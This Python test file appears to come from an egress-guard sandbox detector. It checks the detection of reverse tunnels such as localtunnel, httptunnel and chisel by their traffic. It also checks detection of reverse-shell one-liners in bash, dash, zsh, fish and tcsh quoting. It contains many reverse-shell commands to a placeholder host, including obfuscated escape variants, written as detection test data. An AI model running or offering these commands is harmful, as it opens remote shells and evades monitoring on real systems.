# SPDX-License-Identifier: Apache-2.0
"""Tunnels by behaviour (issue 17, point 5), httptunnel, and reverse-shell
one-liners in every shell's quoting.

A reverse tunnel is a flow the sandbox opened on which the far end sends the
requests. The bytes were rebuilt from the clients' own code: localtunnel's
lib/Tunnel.js (axios `GET /?new`, the JSON reply with port and
max_conn_count) and lib/TunnelCluster.js (the client connects, sends
nothing, relays what the server sends to the local service and its answer
back), httptunnel's http.c/tunnel.c (`POST /index.html?crap=<time>`, then
TUNNEL_OPEN 0x01 0x00 0x01 0x2a). Shell quoting was checked against bash
5.2, dash 0.5, zsh 5.9, fish 3.6 and tcsh 6.24; the cross-check at the end
runs whichever of them is installed.
"""
from __future__ import annotations

import json
import shutil
import signal
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from guard.detect.classify import BLOCK_BYPASS, Finding
from guard.detect.classify.reverse_shell import classify_reverse_shell
from guard.detect.classify.shellwords import dialects_of, simple_commands
from guard.detect.classify.tunnel_behaviour import (classify_first, classify_reply,
                                                    classify_server_first)
from guard.detect.classify.tunnels import (
    TUNNEL_TOOL_NAMES, classify_tunnel_exec, classify_tunnel_payload,
)
from guard.detect.detector import Detector, decide, strongest
from guard.detect.vocabulary import exec_holds
from guard.kernel.abi import SampleKind
from guard.policy.load import parse_policy
from tests.fakekernel import fake_agent
from tests.unit.classify_checks import assert_json, payload_record


def policy(**detections: str):
    return parse_policy("apiVersion: egress-guard/v1\nkind: EgressPolicy\nmetadata:\n  name: t\n"
                        "spec:\n  detections:\n" +
                        "".join(f"    {k}: {v}\n" for k, v in detections.items()))


BLOCK = policy(tunnelTool="block")


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, findings
    assert_json(findings)
    return findings[0]


# --------------------------------------------------------------------------
# The sandbox answers: an HTTP response as the first bytes of a flow it opened


RESPONSES = [
    b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 12\r\n\r\n"
    b"hello world\n",
    b"HTTP/1.0 404 Not Found\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\n\r\n",
    b"HTTP/1.1 302 Found\r\nLocation: /login\r\n\r\n",
    b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    b"HTTP/1.1 500 Internal Server Error\nX-Powered-By: Express\n\n",      # bare LF
]


@pytest.mark.parametrize("payload", RESPONSES)
def test_a_response_sent_first_is_a_reverse_tunnel(payload):
    finding = only(classify_first(payload, 443))
    assert (finding.dialect, finding.confidence) == ("reverse-http", "high")
    assert finding.evidence["signal"] == "response_first"
    assert finding.evidence["status_line"].startswith("HTTP/1.")
    # the flow can be dropped, but the request already arrived: block kills
    [detection] = decide([finding], BLOCK)
    assert detection.action == "kill"
    assert detection.finding.evidence["enforced_by"].startswith("kill: the far end's request")
    # and the payload path finds it the same way
    assert only(classify_tunnel_payload(payload, 443)).dialect == "reverse-http"


def test_a_bare_status_line_is_medium():
    assert only(classify_first(b"HTTP/1.1 204 No Content\r\n", 80)).confidence == "medium"


# --------------------------------------------------------------------------
# The server asks: an HTTP request line as the server's first reply


@pytest.mark.parametrize("reply, confidence", [
    (b"GET / HTTP/1.1\r\nHost: abc.own-server.example\r\nUser-Agent: curl/8.0\r\n\r\n", "high"),
    (b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}", "high"),
    (b"GET /.env HTTP/1.0\r\n\r\n", "medium"),
    (b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n", "high"),
    (b"GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", "high"),
    (b"DELETE /item/1 HTTP/1.1\nHost: x\n\n", "high"),
])
def test_a_request_from_the_server_is_a_reverse_tunnel(reply, confidence):
    for first in (b"AUTH token-123\n", b'{"hello":1}', None):
        finding = only(classify_reply(reply, first, 7000))
        assert (finding.dialect, finding.confidence) == ("reverse-http", confidence)
        assert finding.evidence["signal"] == "request_from_server"
        assert finding.evidence[BLOCK_BYPASS]


@pytest.mark.parametrize("reply, first", [
    (b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", b"POST / HTTP/1.1\r\nHost: a\r\n\r\n"),
    (b"220 mail.example.org ESMTP Postfix (Debian/GNU)\r\n", None),
    (b"220 (vsFTPd 3.0.3)\r\n", None),
    (b"+OK Dovecot ready.\r\n", None),
    (b"* OK [CAPABILITY IMAP4rev1] Dovecot ready.\r\n", None),
    (b"J\x00\x00\x00\n8.0.36\x00\x08\x00\x00\x00", None),                     # MySQL handshake
    (b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n", b"SSH-2.0-OpenSSH_9.2p1\r\n"),
    (b"R\x00\x00\x00\x08\x00\x00\x00\x00", b"\x00\x00\x00\x08\x04\xd2\x16\x2f"),  # PostgreSQL
    (b'{"id":1,"result":true,"error":null}\n', b'{"id":1,"method":"ping"}\n'),
    (b"POST /echo HTTP/1.1\r\nHost: e\r\n\r\n", b"POST /echo HTTP/1.1\r\nHost: e\r\n\r\n"),  # echo
    (b"", b"x"), (b"GET", None), (b"GETTING / HTTP/1.1\r\n", None),
])
def test_servers_that_speak_first_or_answer_are_no_tunnel(reply, first):
    assert classify_reply(reply, first, 25) == []


def test_an_ssh_banner_from_the_server_when_the_client_did_not_speak_ssh():
    finding = only(classify_reply(b"SSH-2.0-OpenSSH_9.6\r\n", b"hello relay 7\n", 443))
    assert (finding.dialect, finding.confidence) == ("reverse-ssh", "medium")
    chisel = only(classify_reply(b"SSH-chisel-v3-server\r\n", b"\x82\x85abcd", 80))
    assert (chisel.dialect, chisel.confidence) == ("chisel", "high")


# --------------------------------------------------------------------------
# localtunnel, renamed or not


LT_SETUP = (b"GET /?new HTTP/1.1\r\nAccept: application/json, text/plain, */*\r\n"
            b"User-Agent: axios/0.21.4\r\nHost: own-server.example:8080\r\n"
            b"Connection: close\r\n\r\n")
LT_REPLY = (b'HTTP/1.1 200 OK\r\nContent-Type: application/json; charset=utf-8\r\n\r\n'
            b'{"id":"quiet-fox-12","port":37425,"max_conn_count":10,'
            b'"url":"http://quiet-fox-12.own-server.example"}')


def test_localtunnel_setup_request_and_reply():
    request = only(classify_first(LT_SETUP, 8080))
    assert (request.dialect, request.confidence) == ("localtunnel", "high")
    assert request.evidence["host"] == "own-server.example:8080"
    assert only(classify_first(LT_SETUP.replace(b"application/json, ", b""), 80)).confidence \
        == "medium"
    proxied = LT_SETUP.replace(b"GET /?new", b"GET http://own-server.example:8080/?new")
    assert only(classify_first(proxied, 3128)).dialect == "localtunnel"
    reply = only(classify_reply(LT_REPLY[LT_REPLY.index(b"{"):], b"AUTH\n", 8080))
    assert reply.evidence["signal"] == "setup_reply" and reply.evidence[BLOCK_BYPASS]


@pytest.mark.parametrize("payload", [
    b"GET /?newer HTTP/1.1\r\nHost: a\r\n\r\n", b"GET /quiet-fox HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /?new=1 HTTP/1.1\r\nHost: a\r\n\r\n", b"GET /index.html?crapx=1 HTTP/1.1\r\n\r\n",
])
def test_lookalike_requests_are_nothing(payload):
    assert classify_first(payload, 80) == []


def test_a_renamed_localtunnel_client_is_found_by_what_it_does():
    """`node helper.js --host http://own-server --port 8000`: the name says
    nothing, the setup request and then every tunnel connection do."""
    assert classify_tunnel_exec(["node", "helper.js", "--host", "http://own-server",
                                 "--port", "8000"]) == []
    detector = Detector()
    setup = detector.payload_findings(BLOCK, payload_record(LT_SETUP, SampleKind.FIRST, 80))
    assert strongest(decide(setup, BLOCK)) == "kill"
    # a tunnel connection: the server sent `GET / HTTP/1.1` first (not sampled),
    # the client's first bytes are the sandbox service's answer
    answer = b"HTTP/1.1 200 OK\r\nX-Powered-By: Express\r\nContent-Length: 2\r\n\r\nok"
    data = detector.payload_findings(BLOCK, payload_record(answer, SampleKind.FIRST, 37425))
    [detection] = decide(data, BLOCK)
    assert (detection.finding.dialect, detection.action) == ("reverse-http", "kill")


# --------------------------------------------------------------------------
# httptunnel (Debian's htc and hts)


@pytest.mark.parametrize("payload, channel", [
    (b"POST /index.html?crap=1767225600 HTTP/1.1\r\n", "out"),          # htc's first segment alone
    (b"POST /index.html?crap=1767225600 HTTP/1.1\r\nHost: srv.example:8888\r\n"
     b"Content-Length: 102401\r\nConnection: close\r\n\r\n\x01\x00\x01\x2a", "out"),
    (b"GET /index.html?crap=1767225601 HTTP/1.1\r\nHost: srv.example:8888\r\n"
     b"Connection: close\r\n\r\n", "in"),
    (b"PUT http://srv.example:80/index.html?crap=1 HTTP/1.1\r\nHost: srv.example:80\r\n\r\n",
     "out"),                                                             # through -P proxy
])
def test_httptunnel_requests(payload, channel):
    finding = only(classify_tunnel_payload(payload, 8888))
    assert (finding.dialect, finding.confidence) == ("httptunnel", "high")
    assert finding.evidence["channel"] == channel
    assert strongest(decide([finding], BLOCK)) == "block"    # the data never leaves


@pytest.mark.parametrize("argv, confidence", [
    (["htc", "-F", "2222", "srv.example:8888"], "high"),
    (["htc", "--forward-port", "22", "-P", "proxy:3128", "srv.example:80"], "high"),
    (["/usr/bin/htc", "-s", "srv.example"], "high"),
    (["htc", "-d", "/dev/ttyS0", "srv.example:80"], "high"),
    (["env", "HOME=/tmp", "htc", "-w", "-F", "9", "srv"], "high"),
    (["htc", "srv.example:80"], "medium"),
    (["htc", "--help"], "low"), (["htc", "-V"], "low"),
    (["hts", "-F", "localhost:22", "8888"], "medium"),
    (["hts", "--version"], "low"),
])
def test_httptunnel_by_exec(argv, confidence):
    finding = only(classify_tunnel_exec(argv))
    assert (finding.dialect, finding.confidence) == ("httptunnel", confidence)


def test_httptunnel_secrets_are_redacted_and_its_programs_are_held():
    finding = only(classify_tunnel_exec(["htc", "-A", "bob:hunter2", "-P", "p:3128", "-F", "22",
                                         "srv"]))
    assert "bob:hunter2" not in json.dumps(finding.as_dict())
    assert {"htc", "hts"} <= TUNNEL_TOOL_NAMES
    assert {"htc", "hts"} <= set(exec_holds(BLOCK))


# --------------------------------------------------------------------------
# The agent: what the server's reply shows is acted on


def test_the_agent_kills_a_client_whose_server_sends_requests():
    text = ("apiVersion: egress-guard/v1\nkind: EgressPolicy\nmetadata:\n  name: t\nspec:\n"
            "  detections:\n    tunnelTool: block\n")
    with fake_agent(text) as fake:
        assert fake.payload(b"HELLO relay v1\n", port=7000, cookie=21) == []
        events = fake.payload(b"GET / HTTP/1.1\r\nHost: me.own-server\r\n\r\n",
                              kind=SampleKind.INBOUND, port=7000, cookie=21)
        [detection] = [e for e in events if e["kind"] == "detection"]
        assert (detection["detection"]["dialect"], detection["action"]) == ("reverse-http", "kill")
        assert fake.signals.signals_to(fake.pid) == [signal.SIGKILL]
        assert fake.maps.resets == [21]


@pytest.mark.parametrize("first_bytes", [
    b"GET / HTTP/1.1\r\nHost: me.own-server\r\n\r\n",      # localtunnel's data connection
    b"POST /index.html?crap=1700000000 HTTP/1.1\r\nHost: h\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\n\r\n",
])
def test_a_request_before_the_sandbox_said_anything_is_a_reverse_tunnel(first_bytes):
    finding = only(classify_server_first(first_bytes, 7000))
    assert finding.dialect == "reverse-http" and finding.evidence[BLOCK_BYPASS]


@pytest.mark.parametrize("greeting", [
    b"SSH-2.0-OpenSSH_9.6\r\n",     # a server's banner may come before the client's
    b"220 mail.example.org ESMTP\r\n", b"+OK ready\r\n", b"* OK IMAP4rev1\r\n",
    b"J\x00\x00\x00\n8.0.36\x00", b"", b"\x00" * 512, b"GETTING / HTTP/1.1\r\n",
])
def test_servers_that_greet_first_are_no_tunnel(greeting):
    assert classify_server_first(greeting, 22) == []


def test_server_first_bytes_are_judged_without_a_first_sample():
    text = ("apiVersion: egress-guard/v1\nkind: EgressPolicy\nmetadata:\n  name: t\n"
            "spec:\n  detections:\n    tunnelTool: block\n")
    with fake_agent(text) as fake:
        events = fake.payload(b"GET / HTTP/1.1\r\nHost: me.own-server\r\n\r\n",
                              kind=SampleKind.SERVER_FIRST, port=7000, cookie=33)
        [detection] = [e for e in events if e["kind"] == "detection"]
        # the request already reached the sandbox: block kills the client (BLOCK_BYPASS)
        assert (detection["detection"]["dialect"], detection["action"]) == ("reverse-http", "kill")
        assert fake.maps.resets == [33]
        off = text.replace("block", "off")
    with fake_agent(off) as fake:
        assert [e for e in fake.payload(b"GET / HTTP/1.1\r\n\r\n", kind=SampleKind.SERVER_FIRST,
                                        port=7000) if e["kind"] == "detection"] == []


def test_inbound_tunnel_findings_follow_the_policy():
    reply = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    assert Detector().inbound_findings(policy(tunnelTool="off"), b"hi\n", 1, reply) == []
    [found] = Detector().inbound_findings(policy(tunnelTool="log", stratum="off"), b"hi\n", 1,
                                          reply)
    assert found.dialect == "reverse-http"
    notify = b'{"id":null,"method":"mining.notify","params":[]}\n'
    stratum = Detector().inbound_findings(policy(tunnelTool="off"),
                                          b'{"id":1,"method":"getjob"}\n', 3333, notify)
    assert stratum and all(f.type == "stratum" for f in stratum)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from([b"", b"HTTP/1.1 200 ", b"GET / HTTP/1.1\r\n", b"SSH-2.0-", b"GET /?new ",
                        b"POST /index.html?crap=", b'{"max_conn_count":', b"SSH-chisel-v3-"]),
       st.binary(max_size=300), st.one_of(st.none(), st.binary(max_size=40)),
       st.one_of(st.none(), st.integers(-1, 70000), st.text(max_size=3)))
def test_behaviour_classifiers_never_raise(prefix, body, first, port):
    assert_json(classify_first(prefix + body, port))
    assert_json(classify_reply(prefix + body, first, port))


# --------------------------------------------------------------------------
# Reverse shells in every shell's quoting


TARGET = {"host": "198.51.100.7", "port": 4444}


@pytest.mark.parametrize("argv", [
    ["bash", "-c", "bash -c $'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"],
    ["bash", "-c", r"bash -i >& $'\x2fdev\x2ftcp\x2f198.51.100.7\x2f4444' 0>&1"],
    ["bash", "-c", r"bash -i >& $'\057dev\057tcp\057198.51.100.7\0574444' 0>&1"],
    ["zsh", "-c", r"bash -c $'\u0062ash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"],
    ["sh", "-c", r"exec bash -c $'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"],
    ["bash", "-c", "bash -c $\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\""],
    ["tcsh", "-c", r"bash -c $'bash -i >& \x2fdev/tcp/198.51.100.7/4444 0>&1'"],
    ["tcsh", "-c", "bash -i >>& /dev/tcp/198.51.100.7/4444 0>&1"],
    ["fish", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"],
    ["fish", "-c", 'bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"; and echo done'],
    ["fish", "-c", r"bash -i >& \x2fdev\x2ftcp\x2f198.51.100.7\x2f4444 0>&1"],
])
def test_dev_tcp_in_any_quoting_is_found(argv):
    findings = classify_reverse_shell(argv)
    assert findings and findings[0].evidence["target"] == TARGET, findings
    assert findings[0].confidence == "high"


@pytest.mark.parametrize("argv", [
    ["fish", "-c", "nc 198.51.100.7 4444 &| bash -i"],                 # fish pipes with &|
    ["fish", "-c", "begin; nc 198.51.100.7 4444 -e /bin/sh; end"],
    ["fish", "-c", "not nc 198.51.100.7 4444 -e /bin/sh"],
    ["dash", "-c", r"echo $'x\' ; nc 198.51.100.7 4444 -e /bin/sh ; echo '"],  # dash: no $'...'
    ["sh", "-c", r"echo $'x\' ; nc 198.51.100.7 4444 -e /bin/sh ; echo '"],    # sh: either
])
def test_a_command_hidden_by_another_shells_quoting_is_found(argv):
    findings = classify_reverse_shell(argv)
    assert findings and findings[0].evidence["target"] == TARGET, findings


@pytest.mark.parametrize("argv", [
    ["bash", "-c", r"echo $'x\' ; nc 198.51.100.7 4444 -e /bin/sh ; echo '"],  # one quoted word
    ["fish", "-c", r"echo 'x\' ; nc 198.51.100.7 4444 -e /bin/sh ; echo '"],  # \' inside '...'
    ["fish", "-c", "echo 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"],
    ["tcsh", "-c", "echo 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"],
    ["zsh", "-c", "print -r -- $'nc 198.51.100.7 4444 -e /bin/sh'"],
    ["bash", "-c", "printf '%s\\n' $'\\x41\\x42'"], ["fish", "-c", "echo \\x41 (date)"],
    ["tcsh", "-c", "echo hi >& /tmp/log"], ["fish", "-c", "make 2>&1 &| tee build.log"],
])
def test_quoted_text_is_not_a_command(argv):
    assert classify_reverse_shell(argv) == []


def test_dialects_by_shell():
    assert dialects_of("/bin/bash") == ("bash",) and dialects_of("dash") == ("posix",)
    assert dialects_of("sh") == ("posix", "bash") and dialects_of("fish") == ("fish",)
    assert dialects_of("tcsh") == ("csh",) and dialects_of("unknown") == ("posix", "bash")
    # the default reading is the one the miner classifier always had
    assert simple_commands("echo $'a b'") == [["echo", "$a b"]]


CORPUS = [r"""printf '%s|' $'\x2fdev\x2ftcp' 'a\'b' "c\"d" \x41 $'\101\u00e9' x\ y""",
          r"""printf '%s|' 'it''s' "a\b" a\b 'g\nh' "x\$y" \x2fdev""",
          r"""printf '%s|' 'a\'b' c\'d "e\"f" 'g\\h'""",
          r"""printf '%s|' 'a\b' "c\d" e\f $'\x41\x2f'"""]
SHELL_ARGV = "import sys; sys.stdout.write(repr(sys.argv[1:]))"
#: (shell, corpus line) the real shell refuses as a syntax error (or, tcsh, an
#: unset variable): the line is not a command there, so only the refusal is checked.
REFUSED = {("bash", 0), ("dash", 0), ("zsh", 0), ("fish", 0), ("fish", 3), ("tcsh", 0),
           ("tcsh", 1), ("tcsh", 2)}


@pytest.mark.parametrize("shell", ["bash", "dash", "zsh", "fish", "tcsh"])
@pytest.mark.parametrize("index", range(len(CORPUS)))
def test_words_match_the_real_shell(shell, index):
    """The lexer's words for a command line are the real shell's argv
    (scripts/setup.sh installs every shell here)."""
    path = shutil.which(shell)
    assert path is not None, f"{shell} is not installed (scripts/setup.sh installs it)"
    text = CORPUS[index]
    line = text.replace("printf '%s|'", "PY")
    [[_, *words]] = simple_commands(line, dialect=dialects_of(shell)[0])
    script = line.replace("PY", f"{sys.executable} -c '{SHELL_ARGV}'", 1)
    result = subprocess.run([path, "-c", script], capture_output=True, text=True, timeout=20,
                            env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"})
    refused = result.returncode != 0 or not result.stdout
    assert refused == ((shell, index) in REFUSED), result.stderr.strip()[:200]
    if not refused:
        assert repr(words) == result.stdout
